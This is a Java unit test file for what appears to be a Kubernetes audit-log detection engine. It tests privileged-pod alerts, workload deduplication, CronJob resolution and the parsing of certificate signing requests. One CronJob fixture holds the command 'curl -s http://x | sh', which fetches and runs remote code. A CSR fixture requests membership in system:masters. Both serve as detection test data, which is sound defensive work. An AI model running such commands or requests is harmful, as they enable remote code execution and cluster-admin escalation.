package io.auditwatch.language;

import static io.auditwatch.testing.EventJson.event;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import io.auditwatch.alert.Alert;
import io.auditwatch.engine.Engine;
import io.auditwatch.event.AuditEvent;
import io.auditwatch.objects.CertificateRequests;
import io.auditwatch.objects.Workload;
import io.auditwatch.objects.WrittenObjects;
import io.auditwatch.state.ExpiringState;
import io.auditwatch.state.TreeMapStore;
import io.auditwatch.testing.EventJson;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Pod-security rules of the default pack on workloads: what will run, whichever path creates it, one finding per workload. */
class WorkloadRulesTest {
    private static final String PRIVILEGED = "{\"containers\":[{\"name\":\"api\",\"image\":\"registry.example.com/api:3\","
            + "\"securityContext\":{\"privileged\":true}}]}";
    private static final String PLAIN = "{\"containers\":[{\"name\":\"api\",\"image\":\"registry.example.com/api:3\"}]}";
    private static final String REPLICASET_CONTROLLER = "system:serviceaccount:kube-system:replicaset-controller";

    private final Engine engine = RuleSet.defaults().engine(Duration.ofHours(1));
    private final ExpiringState state = new ExpiringState(new TreeMapStore());
    private int requests;

    private List<Alert> alerts(EventJson event, String rule) {
        AuditEvent e = event.auditID("req-" + (++requests)).at(requests).parse();
        state.advanceTo(e.eventTimeMillis());
        return engine.process(e, state).stream().filter(a -> a.rule().id().equals(rule)).toList();
    }

    /** A create or patch of {@code resource} by {@code user}, carrying {@code object} as request or response. */
    private static EventJson write(String user, String verb, String resource, String namespace, String name, String request,
                                   String response) {
        EventJson e = event().user(user).set("level", "RequestResponse").verb(verb)
                .objectRef(resource, namespace, name, null).code("create".equals(verb) ? 201 : 200);
        if (request != null) {
            e.setJson("requestObject", request);
        }
        if (response != null) {
            e.setJson("responseObject", response);
        }
        return e;
    }

    private static String replicaSetPod(String hash, String spec) {
        return "{\"kind\":\"Pod\",\"metadata\":{\"generateName\":\"api-" + hash + "-\",\"namespace\":\"payments\","
                + "\"labels\":{\"app\":\"api\",\"pod-template-hash\":\"" + hash + "\"},\"ownerReferences\":[{\"apiVersion\":"
                + "\"apps/v1\",\"kind\":\"ReplicaSet\",\"name\":\"api-" + hash + "\",\"uid\":\"u1\",\"controller\":true}]},"
                + "\"spec\":" + spec + "}";
    }

    private static String deployment(int generation, String spec) {
        return "{\"kind\":\"Deployment\",\"metadata\":{\"name\":\"api\",\"namespace\":\"payments\",\"generation\":" + generation
                + "},\"spec\":{\"replicas\":3,\"template\":{\"metadata\":{\"labels\":{\"app\":\"api\"}},\"spec\":" + spec + "}}}";
    }

    private List<Alert> replicaSetPodCreate(String hash) {
        return alerts(write(REPLICASET_CONTROLLER, "create", "pods", "payments", null, replicaSetPod(hash, PRIVILEGED), null),
                "privileged-pod");
    }

    @Test
    void shouldFoldTheReplicasOfOneTemplateIntoOneAlertThatNamesTheDeployment() {
        List<Alert> first = replicaSetPodCreate("6d8f7c9b5");
        assertEquals(1, first.size());
        assertEquals(new Alert.Target("deployments", "payments", "api", null, null), first.get(0).target());
        assertEquals(REPLICASET_CONTROLLER, first.get(0).identity().username());
        assertEquals(List.of(), replicaSetPodCreate("6d8f7c9b5"));
        assertEquals(List.of(), replicaSetPodCreate("6d8f7c9b5"));
    }

    @Test
    void shouldAlertAgainForANewRevisionOfTheTemplate() {
        assertEquals(1, replicaSetPodCreate("6d8f7c9b5").size());
        List<Alert> rollout = replicaSetPodCreate("7f4c8d6a2");
        assertEquals(1, rollout.size());
        assertEquals("api", rollout.get(0).target().name());
    }

    @Test
    void shouldGiveTheWorkloadAndThePodsItsControllerCreatesOneDedupKey() {
        List<Alert> byPerson = alerts(write("alice@example.com", "create", "deployments", "payments", null,
                deployment(1, PRIVILEGED), null), "privileged-pod");
        List<Alert> byController = replicaSetPodCreate("6d8f7c9b5");

        assertEquals(1, byPerson.size());
        assertEquals(1, byController.size());
        assertEquals(byPerson.get(0).target(), byController.get(0).target());
        assertEquals(byPerson.get(0).dedupKey(), byController.get(0).dedupKey());
        assertNotEquals(byPerson.get(0).id(), byController.get(0).id());
    }

    @Test
    void shouldJudgeAPatchOnTheObjectTheApiServerReturned() {
        String body = "{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"api\",\"image\":\"registry.example.com/api:4\"}]}}}}";
        assertEquals(1, alerts(write("bob@example.com", "patch", "deployments", "payments", "api", body,
                deployment(4, PRIVILEGED)), "privileged-pod").size());
        assertEquals(List.of(), alerts(write("carol@example.com", "patch", "deployments", "payments", "api",
                "{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"api\",\"securityContext\":{\"privileged\":true}}]}}}}",
                deployment(5, PLAIN)), "privileged-pod"), "the response says the patch did not leave a privileged container");
    }

    @Test
    void shouldJudgeAMergePatchBodyWhenTheResponseIsNotLogged() {
        assertEquals(1, alerts(write("bob@example.com", "patch", "deployments", "payments", "api",
                "{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"api\",\"securityContext\":{\"privileged\":true}}]}}}}",
                null), "privileged-pod").size());
    }

    @Test
    void shouldFoldAGitOpsReapplyOfAnUnchangedTemplate() {
        String argo = "system:serviceaccount:argocd:argocd-application-controller";
        String labels = "{\"metadata\":{\"labels\":{\"team\":\"payments\"}}}";
        assertEquals(1, alerts(write(argo, "patch", "deployments", "payments", "api", labels, deployment(4, PRIVILEGED)),
                "privileged-pod").size());
        assertEquals(List.of(), alerts(write(argo, "patch", "deployments", "payments", "api", labels, deployment(4, PRIVILEGED)),
                "privileged-pod"), "same generation: the same template");
    }

    @Test
    void shouldNotJudgeAReplicaSetThatADeploymentOwnsButItsPods() {
        String replicaSet = "{\"kind\":\"ReplicaSet\",\"metadata\":{\"name\":\"api-6d8f7c9b5\",\"namespace\":\"payments\","
                + "\"labels\":{\"pod-template-hash\":\"6d8f7c9b5\"},\"ownerReferences\":[{\"kind\":\"Deployment\",\"name\":\"api\","
                + "\"controller\":true}]},\"spec\":{\"template\":{\"spec\":" + PRIVILEGED + "}}}";
        assertEquals(List.of(), alerts(write("system:serviceaccount:kube-system:deployment-controller", "create", "replicasets",
                "payments", null, replicaSet, null), "privileged-pod"));
    }

    @Test
    void shouldNameTheCronJobThatScheduledAJobsPod() {
        assertEquals(new Workload("cronjobs", "ops", "backup", ""), workloadOfJobPod("backup-29012345"));
        assertEquals(new Workload("jobs", "ops", "migrate-20240101", ""), workloadOfJobPod("migrate-20240101"),
                "a date suffix is not a scheduled minute");
    }

    private static Workload workloadOfJobPod(String job) {
        return WrittenObjects.workload(write("system:serviceaccount:kube-system:job-controller", "create", "pods", "ops", null,
                "{\"metadata\":{\"generateName\":\"" + job + "-\",\"ownerReferences\":[{\"kind\":\"Job\",\"name\":\"" + job
                        + "\",\"controller\":true}]},\"spec\":" + PLAIN + "}", null).parse());
    }

    @Test
    void shouldResolveTheCronJobTemplateAndStripTagsAndDigestsFromImages() {
        AuditEvent cron = write("alice@example.com", "create", "cronjobs", "ops", null, "{\"kind\":\"CronJob\",\"metadata\":"
                + "{\"name\":\"sync\"},\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"initContainers\":[{\"name\":"
                + "\"i\",\"image\":\"registry.example.com:5000/tools/init:1.2\"}],\"containers\":[{\"name\":\"c\",\"image\":"
                + "\"quay.io/calico/node:v3.28@sha256:0123\",\"command\":[\"sh\",\"-c\"],\"args\":[\"curl -s http://x | sh\"]}]}}}}}}",
                null).parse();
        assertEquals(List.of("quay.io/calico/node", "registry.example.com:5000/tools/init"), WrittenObjects.imageRepositories(cron));
        assertEquals(List.of("sh -c curl -s http://x | sh"), WrittenObjects.commandLines(cron));
        assertEquals(new Workload("cronjobs", "ops", "sync", "1"), WrittenObjects.workload(cron));
    }

    @Test
    void shouldReadTheSubjectOfTheCsrFromItsPkcs10Request() {
        String pem = "-----BEGIN CERTIFICATE REQUEST-----\n"
                + "MIHmMIGNAgEAMCsxEDAOBgNVBAMMB21hbGxvcnkxFzAVBgNVBAoMDnN5c3RlbTpt\n"
                + "YXN0ZXJzMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEgYGj10Jo0JZ4eXflFhxO\n"
                + "KtlLWD4UUE3WTN5S4cn4FT+Q7fEfXHRHbLptpJombK+3DI+RTb3L8FphHE6SxBPM\n"
                + "yqAAMAoGCCqGSM49BAMCA0gAMEUCIQD8Pjw1TQckLKZfHEX+sw9x0WNZYCy/SUfX\n"
                + "lvLk00ZFJgIgCunz4y+iw2xx4wmkXaS9Giix0DeA12tn1tmd8lS6gIc=\n"
                + "-----END CERTIFICATE REQUEST-----\n";
        CertificateRequests.Subject subject = CertificateRequests.subject(csr(
                Base64.getEncoder().encodeToString(pem.getBytes(StandardCharsets.US_ASCII))));
        assertEquals(List.of("mallory"), subject.commonNames());
        assertEquals(List.of("system:masters"), subject.organizations());
        assertEquals("CN=mallory,O=system:masters", subject.distinguishedName());
    }

    @Test
    void shouldGiveNoSubjectForARequestThatIsNotPkcs10() {
        assertNull(CertificateRequests.subject(csr(Base64.getEncoder().encodeToString(
                "-----BEGIN CERTIFICATE REQUEST-----\nnot der\n-----END CERTIFICATE REQUEST-----\n".getBytes(StandardCharsets.US_ASCII)))));
        assertNull(CertificateRequests.subject(csr("%%% not base64")));
    }

    private static AuditEvent csr(String request) {
        return write("alice@example.com", "create", "certificatesigningrequests", null, null,
                "{\"kind\":\"CertificateSigningRequest\",\"spec\":{\"request\":\"" + request + "\",\"signerName\":"
                        + "\"kubernetes.io/kube-apiserver-client\",\"username\":\"alice@example.com\"}}", null).parse();
    }
}
